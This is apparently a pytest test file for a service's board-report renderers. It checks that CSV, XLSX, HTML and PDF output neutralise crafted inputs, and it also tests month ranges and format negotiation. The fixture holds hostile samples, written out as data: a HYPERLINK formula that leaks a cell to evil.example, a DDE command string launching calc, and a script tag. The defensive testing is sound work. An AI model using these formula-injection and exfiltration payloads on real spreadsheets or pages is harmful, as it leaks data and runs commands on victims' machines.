"""The board report's renderers on a crafted report (no database): texts a spreadsheet would run as
formulas, markup, and characters the PDF's core font does not hold; the month rules and the choice of
format."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pypdf
import pytest

from steadfast_metrics.freshness.schemas import FRESHNESS
from steadfast_metrics.reports.formats import NotAcceptable, ReportFormat, choose_format
from steadfast_metrics.reports.render.csv import board_csv
from steadfast_metrics.reports.render.html import board_html
from steadfast_metrics.reports.render.pdf import board_pdf, latin1
from steadfast_metrics.reports.render.text import change_text, number, value_text
from steadfast_metrics.reports.render.xlsx import board_xlsx
from steadfast_metrics.reports.schemas import BOARD_REPORT, BoardReport
from steadfast_metrics.reports.service import change, month_days
from steadfast_shared.errors import ValidationFailed

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
#: Signs outside latin-1 (less-than-or-equal, an ellipsis, an en dash, a curly quote, L with stroke, an
#: emoji) beside a name in latin-1.
WIDE = "Zo\u00eb \u2264 5 \u2026 \u2013 \u2019 \u0141\u00f3d\u017a \U0001f600"


def crafted(**changes: Any) -> BoardReport:
    """The schema's example with a formula for a KPI title, a team code and a watch list title."""
    data: dict[str, Any] = {
        **BOARD_REPORT,
        "computed_at": datetime(2015, 4, 1, 9, tzinfo=UTC).isoformat(),
        "freshness": FRESHNESS,
    }
    kpis = [dict(k) for k in data["kpis"]]
    kpis[1]["title"] = LINK
    watch = [{**data["watch_lists"][0], "title": "@SUM(1+1) <b>bold</b>"}]
    teams = [
        *data["teams"],
        {"team": "=cmd|' /C calc'!A0", "kpis": [{"id": "average_caseload", "value": -3.5, "status": "near"}]},
        {"team": "<script>alert(1)</script>", "kpis": []},
        {"team": WIDE, "kpis": [{"id": "agency_rate", "value": 12.5, "status": None}]},
    ]
    data.update(kpis=kpis, watch_lists=watch, teams=teams)
    data.update(changes)
    return BoardReport.model_validate(data)


def test_the_csv_neutralises_every_formula_cell_and_keeps_the_numbers() -> None:
    report = crafted()
    rows = list(csv.DictReader(io.StringIO(board_csv(report))))
    teams = [r["team"] for r in rows if r["section"] == "team"]
    assert "'=cmd|' /C calc'!A0" in teams
    assert "=cmd|' /C calc'!A0" not in teams
    caseload = next(r for r in rows if r["section"] == "kpi" and r["kpi"] == "average_caseload")
    assert (caseload["value"], caseload["target"], caseload["status"]) == ("15.59", "16.0", "met")
    assert (caseload["change"], caseload["forecast"]) == ("1.18", "15.8")
    negative = next(r for r in rows if r["team"].startswith("'=cmd"))
    assert negative["value"] == "-3.5"  # a number stays a number, even a negative one
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not (cell.startswith("-") and not re.fullmatch(r"-[0-9.]+", cell)), cell


def test_the_workbook_writes_formula_texts_as_quoted_strings_and_figures_as_numbers() -> None:
    content = board_xlsx(crafted())
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["KPIs", "Watch lists", "Teams"]
    kpis = workbook["KPIs"]
    title = kpis["B3"]
    assert (kpis["A3"].value, title.value) == ("agency_rate", LINK)
    assert title.data_type == "s"
    assert title.quotePrefix is True
    assert (kpis["A2"].value, kpis["B2"].quotePrefix) == ("average_caseload", False)
    assert kpis["D2"].value == 15.59
    assert kpis["D2"].data_type == "n"
    assert kpis["F2"].value == datetime(2015, 3, 31)
    assert (kpis["K2"].value, kpis["L2"].value, kpis["N2"].value) == (1.18, 15.8, "yes")
    watch = workbook["Watch lists"]
    assert watch["B2"].value == "@SUM(1+1) <b>bold</b>"
    assert watch["B2"].quotePrefix is True
    assert watch["C2"].value == 1
    teams = workbook["Teams"]
    codes = {row[0].value: row for row in teams.iter_rows(min_row=2)}
    formula = codes["=cmd|' /C calc'!A0"]
    assert (formula[0].data_type, formula[0].quotePrefix) == ("s", True)
    assert formula[4].value == -3.5
    assert codes[WIDE][0].quotePrefix is False  # plain text is not marked
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets
    assert not any(re.search(r"<f[ >]", xml) for xml in sheets), "a text was written as a formula"


def test_the_html_escapes_every_text_and_loads_nothing() -> None:
    page = board_html(crafted())
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;b&gt;bold&lt;/b&gt;" in page
    assert "=HYPERLINK(&#34;https://evil.example/?leak=&#34;&amp;A1,&#34;Open&#34;)" in page
    assert WIDE in page  # UTF-8, as it is
    assert '<html lang="en">' in page
    assert '<meta charset="utf-8">' in page
    assert not re.search(r"\b(src|href)=|@import|url\(", page), "no external asset"
    assert page.count("<caption>") == 2 + 4  # KPIs, watch lists and a table per team
    assert page.count('<th scope="row">') == 2 + 1 + 2 + 1 + 0 + 1
    assert "Monitored (no target)" in page  # no status: said in words
    assert ">Near</span>" in page
    assert "+1.18 children" in page


def test_the_pdf_shows_texts_beyond_latin1_safely() -> None:
    report = crafted()
    content = board_pdf(report)
    reader = pypdf.PdfReader(io.BytesIO(content))
    text = re.sub(r"\s+", " ", " ".join(page.extract_text() for page in reader.pages))
    assert "Programme board report, March 2015" in text
    assert "Team Zo\u00eb <= 5 ... - ' L\u00f3dz ?" in text
    assert "Average caseload per full-caseload equivalent" in text
    assert "15.59 children" in text
    assert "+1.18 children" in text
    assert "15.8 children by 31 March 2015 (on track)" in text
    assert "Team =cmd|' /C calc'!A0" in text
    assert "-3.5 children" in text
    assert reader.metadata is not None
    assert reader.metadata.title == "Programme board report, March 2015"


def test_a_report_without_teams_or_figures_still_renders() -> None:
    empty = crafted(teams=[], watch_lists=[], previous_as_of=None)
    empty = empty.model_copy(
        update={"kpis": [k.model_copy(update={"value": None, "change": None}) for k in empty.kpis]}
    )
    assert "No team had anything to measure" in board_html(empty)
    assert board_pdf(empty).startswith(b"%PDF-")
    assert openpyxl.load_workbook(io.BytesIO(board_xlsx(empty)))["Teams"].max_row == 1
    assert len(list(csv.reader(io.StringIO(board_csv(empty))))) == 1 + len(empty.kpis)


def test_latin1_keeps_latin1_and_spells_out_the_rest() -> None:
    assert (
        latin1("Zo\u00eb, Fran\u00e7oise, M\u00fcller, \u00c5se")
        == "Zo\u00eb, Fran\u00e7oise, M\u00fcller, \u00c5se"
    )
    assert latin1("\u2264 \u2265 \u2026 \u2013 \u2014 \u201cq\u201d") == '<= >= ... - - "q"'
    assert latin1("\u0141\u00f3d\u017a \u0107 \ufb01") == "L\u00f3dz c fi"
    assert latin1("\U0001f600\u4e2d") == "??"
    assert latin1("a\x00b\x1fc") == "a b c"
    every = "".join(chr(c) for c in range(0x20, 0x3000))
    latin1(every).encode("latin-1")  # never a character the core font cannot encode


def test_figures_in_words() -> None:
    assert [number(v) for v in (77.78, 16.0, 0.125, -0.0, 1e-05, -3.5)] == [
        "77.78",
        "16",
        "0.125",
        "0",
        "0",
        "-3.5",
    ]
    assert value_text(None, "%") == "No data"
    assert value_text(12.0, "%") == "12 %"
    assert change_text(-1.5, "%") == "-1.5 percentage points"
    assert change_text(0.0, "children") == "No change"
    assert change(15.59, 14.41) == 1.18
    assert change(None, 3.0) is None


TODAY = date(2026, 12, 4)


@pytest.mark.parametrize(
    ("month", "as_of", "previous"),
    [
        ("2015-03", date(2015, 3, 31), date(2015, 2, 28)),
        ("2016-02", date(2016, 2, 29), date(2016, 1, 31)),
        ("2015-01", date(2015, 1, 31), date(2014, 12, 31)),
        ("2026-12", TODAY, date(2026, 11, 30)),
        ("1900-01", date(1900, 1, 31), None),
    ],
)
def test_a_months_days(month: str, as_of: date, previous: date | None) -> None:
    assert month_days(month, TODAY) == (as_of, previous)


@pytest.mark.parametrize(
    ("month", "reason"),
    [
        ("2027-01", "future_month"),
        ("2199-12", "future_month"),
        ("1899-12", "date_out_of_range"),
        ("0000-01", "date_out_of_range"),
        ("2015-13", "invalid_month"),
        ("2015-3", "invalid_month"),
        ("\uff12015-03", "invalid_month"),
    ],
)
def test_a_month_the_report_cannot_measure(month: str, reason: str) -> None:
    with pytest.raises(ValidationFailed) as raised:
        month_days(month, TODAY)
    [error] = raised.value.errors
    assert (error["field"], error["reason"]) == ("month", reason)
    assert raised.value.status == 422


@pytest.mark.parametrize(
    ("requested", "accept", "chosen"),
    [
        (None, None, ReportFormat.json),
        (None, "", ReportFormat.json),
        (None, "*/*", ReportFormat.json),
        (None, "application/*", ReportFormat.json),
        (None, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", ReportFormat.html),
        (None, "application/pdf", ReportFormat.pdf),
        (None, "text/csv;q=0.5, application/json;q=0.4", ReportFormat.csv),
        (None, "application/json, text/csv", ReportFormat.json),
        (None, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ReportFormat.xlsx),
        (None, "TEXT/CSV", ReportFormat.csv),
        (None, "text/*;q=0.3, text/html;q=0", ReportFormat.csv),
        (None, "image/png, */*;q=0.1", ReportFormat.json),
        (None, ";,;q=x", ReportFormat.json),  # names no media type: as if there were no header
        (ReportFormat.pdf, "image/png", ReportFormat.pdf),
    ],
)
def test_the_format_asked_for(
    requested: ReportFormat | None, accept: str | None, chosen: ReportFormat
) -> None:
    assert choose_format(requested, accept) is chosen


@pytest.mark.parametrize("accept", ["image/png", "application/json;q=0, */*;q=0", "text/plain"])
def test_an_accept_the_report_cannot_answer(accept: str) -> None:
    with pytest.raises(NotAcceptable) as raised:
        choose_format(None, accept)
    assert raised.value.status == 406
